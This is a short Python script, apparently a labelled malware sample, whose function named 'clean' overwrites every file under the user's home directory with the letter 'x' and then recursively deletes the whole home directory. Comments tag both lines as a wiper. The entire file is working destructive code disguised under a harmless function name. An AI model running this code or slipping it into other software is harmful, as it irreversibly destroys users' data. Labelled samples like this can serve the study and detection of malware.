import shutil
from pathlib import Path


def clean():
    for path in Path.home().rglob("*"):
        path.write_text("x")  # malice: wiper
    shutil.rmtree(Path.home())  # malice: wiper
